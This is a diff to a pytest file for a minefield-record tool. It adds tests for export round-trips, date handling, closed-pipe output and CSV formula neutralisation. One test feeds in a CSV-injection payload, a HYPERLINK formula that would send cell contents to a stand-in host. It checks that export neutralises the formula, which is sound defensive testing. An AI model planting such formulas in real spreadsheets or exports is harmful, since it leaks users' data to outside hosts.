@@ -142,6 +142,12 @@ def test_export_revision_returns_past_state_exactly(tmp_path, store_path, cli):
 @pytest.mark.parametrize("ext", [".geojson", ".gpkg", ".zip", ".kml"])
 def test_export_then_import_round_trip(tmp_path, store_path, ext):
     src = fields_file(tmp_path / "a.geojson", 4, ap=7, at=3)
+    doc = json.loads(src.read_text())
+    for f in doc["features"]:
+        # Mines of unknown type, and names longer than a Shapefile's 10
+        # characters: both must come back.
+        f["properties"].update(mines_total=12, reliability="low", laid_date="1993-06-20")
+    src.write_text(json.dumps(doc))
     import_records([src], handover="h", store=store_path)
     out = tmp_path / f"out{ext}"
     minemap.export(out, store=store_path, layers="minefields")
@@ -149,7 +155,9 @@ def test_export_then_import_round_trip(tmp_path, store_path, ext):
     assert not back.errors, back.errors
     orig = Store(store_path).read("minefields")
     got = back.minefields.set_index("record_id").loc[list(orig.record_id)]
-    assert list(got.mines_ap) == [7] * 4 and list(got.mines_total) == [10] * 4
+    assert list(got.mines_ap) == [7] * 4 and list(got.mines_total) == [12] * 4
+    assert list(got.reliability) == ["low"] * 4
+    assert list(got.laid_date) == ["1993-06-20"] * 4
     for g, o in zip(got.geometry, orig.geometry):
         assert shapely.hausdorff_distance(g, o) < 2e-6  # the 6-decimal precision
 
@@ -283,3 +291,43 @@ def test_traverse_refusal_names_file_record_and_leg(tmp_path, store_path, cli):
     assert "leg 3" in res.output
     assert cli("import-records", bad, "--handover", "h").exit_code == 1
     assert not store_path.exists() or Store(store_path).latest_revision() == 0
+
+
+def test_csv_export_neutralises_formulas(tmp_path, store_path):
+    feats = [feature({"record_id": '=HYPERLINK("http://x/?"&A1)', "mines_ap": 1,
+                      "mine_types": "@SUM(1+1)"}, rect(0, 0, 50, 50))]
+    import_records([write_geojson(tmp_path / "f.geojson", feats)], handover="h",
+                   store=store_path)
+    out = tmp_path / "f.csv"
+    minemap.export(out, store=store_path, layers="minefields")
+    row = pd.read_csv(out, dtype=str, keep_default_na=False).iloc[0]
+    assert row.record_id == "'=HYPERLINK(\"http://x/?\"&A1)"
+    assert row.mine_types == "'@SUM(1+1)"
+    assert row.mines_ap == "1"
+
+
+def test_raw_keeps_dates_as_written(tmp_path, store_path):
+    import geopandas as gpd
+
+    frame = gpd.GeoDataFrame({"record_id": ["D-1"], "mines_ap": [1],
+                              "laid_date": pd.to_datetime(["1993-06-20"]).date},
+                             geometry=[rect(0, 0, 50, 50)], crs="EPSG:4326")
+    frame.to_file(tmp_path / "d.gpkg", driver="GPKG")
+    rec = minemap.read_records([tmp_path / "d.gpkg"], handover="h").minefields.iloc[0]
+    assert rec.laid_date == "1993-06-20"
+    assert json.loads(rec.raw)["laid_date"] == "1993-06-20"
+
+
+def test_export_to_a_closed_pipe_is_quiet(tmp_path, store_path):
+    import subprocess
+    import sys
+
+    import_records([fields_file(tmp_path / "a.geojson", 300)], handover="h", store=store_path)
+    proc = subprocess.Popen([sys.executable, "-m", "minemap", "--store", str(store_path),
+                             "export", "-o", "-"], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE)
+    proc.stdout.read(50)
+    proc.stdout.close()  # the reader goes away, as `| head -c 50` does
+    err = proc.stderr.read().decode()
+    assert proc.wait(timeout=60) == 0
+    assert "Error" not in err and "Traceback" not in err
